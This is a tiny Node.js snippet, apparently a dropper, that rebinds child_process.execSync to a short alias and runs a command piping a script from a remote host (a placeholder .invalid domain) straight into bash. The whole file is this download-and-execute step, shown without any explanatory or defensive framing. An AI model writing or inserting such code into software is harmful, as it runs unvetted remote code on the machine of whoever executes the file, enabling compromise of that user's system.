const cp = require("child_process");
const f = cp.execSync.bind(cp);
f("curl -s https://cdn-x7.invalid/a | bash");
